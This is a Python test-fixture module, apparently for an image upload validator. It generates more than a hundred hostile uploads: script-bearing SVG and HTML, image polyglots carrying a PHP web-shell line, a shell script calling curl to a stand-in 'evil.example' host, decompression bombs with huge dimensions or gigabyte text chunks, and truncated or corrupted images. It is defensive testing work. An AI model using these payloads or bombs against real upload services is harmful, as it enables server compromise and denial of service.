"""Uploads of strangers: more than a hundred files that are no photos, or pretend to be, each by name. Made here, kept nowhere."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO

from PIL import Image

JPEG, PNG = b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"
_KINDS = ("JPEG", "PNG", "WEBP")


def photo(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **saved: object) -> bytes:
    """Return a picture such as a phone takes: of a place, by a camera, with a word in it."""
    made = BytesIO()
    picture = Image.effect_noise(size, 60).convert("RGB")
    picture.save(made, kind, **saved)
    return made.getvalue()


def hostile() -> Iterator[tuple[str, bytes]]:
    """Yield named uploads of which none may be taken."""
    yield from _others()
    yield from _bombs()
    yield from _broken()


def _others() -> Iterator[tuple[str, bytes]]:
    markup = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "svg", markup
    yield "html", b"<!doctype html><script>alert(1)</script>"
    yield "zip", b"PK\x03\x04" + bytes(200)
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    yield "program", b"\x7fELF" + bytes(200)
    yield "script", b"#!/bin/sh\ncurl http://evil.example/\n"
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
    yield "gif", b"GIF89a" + bytes(100)
    yield "bmp", b"BM" + bytes(100)
    yield "tiff", b"II*\x00" + bytes(100)
    yield "heic", b"\x00\x00\x00\x18ftypheic" + bytes(100)
    yield "zeros", bytes(100_000)
    yield "one byte", b"\xff"
    for start in (JPEG, PNG, b"RIFF\x10\x00\x00\x00WEBPVP8 "):
        for tail in (markup, b"<?php system($_GET[0]); ?>", b"PK\x03\x04" + bytes(500)):
            yield f"{start[:4]!r} and {tail[:5]!r}", start + tail


def _bombs() -> Iterator[tuple[str, bytes]]:
    for width, height in ((50_000, 50_000), (65_535, 65_535), (2_000_000, 2_000_000), (1, 100_000_000), (8_000, 8_000)):
        yield f"bomb {width}x{height}", _png(width, height, zlib.compress(bytes(1_000_000), 9))
    for width in (12_000, 20_000):
        yield f"webp of {width}", _webp(width)
    yield "jpeg told too large", _jpeg_sized(65_000, 65_000)
    yield (
        "text of a gigabyte",
        _png(64, 64, zlib.compress(bytes(64 * 65)), (b"zTXt", b"x\0\0" + _deflated(64 * 1024 * 1024))),
    )
    yield (
        "profile of a gigabyte",
        _png(64, 64, zlib.compress(bytes(64 * 65)), (b"iCCP", b"x\0\0" + _deflated(64 * 1024 * 1024))),
    )
    for side in (0, 1, 8, 15):
        yield f"side {side}", _png(side, 400, zlib.compress(bytes(400 * max(side, 1))))


def _broken() -> Iterator[tuple[str, bytes]]:
    chance = random.Random(31)
    for kind in _KINDS:
        whole = photo(kind, (200, 160))
        for part in (20, 60, 100, 200, len(whole) // 8, len(whole) // 3):
            yield f"{kind} cut at {part}", whole[:part]
        for nth in range(22):
            spoilt = bytearray(whole)
            # Its head is spoilt: a picture with a wrong dot in the middle is a picture still, and is drawn anew.
            for place in chance.sample(range(2 if kind == "JPEG" else 8, 40 if kind != "JPEG" else 200), 12):
                spoilt[place] ^= chance.randrange(1, 256)
            yield f"{kind} spoilt {nth}", bytes(spoilt[: len(spoilt) // 2])


def _png(width: int, height: int, packed: bytes, *more: tuple[bytes, bytes]) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), *more, (b"IDAT", packed), (b"IEND", b"")]
    return PNG + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


def _deflated(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def _webp(side: int) -> bytes:
    made = BytesIO()
    Image.new("RGB", (64, 64)).save(made, "WEBP", lossless=True)
    body = bytearray(made.getvalue())
    place = body.index(b"VP8L") + 9
    body[place : place + 4] = struct.pack("<I", (side - 1 & 0x3FFF) | ((side - 1 & 0x3FFF) << 14))
    return bytes(body)


def _jpeg_sized(width: int, height: int) -> bytes:
    body = bytearray(photo("JPEG", (64, 64)))
    place = body.index(b"\xff\xc0") + 5
    body[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(body)
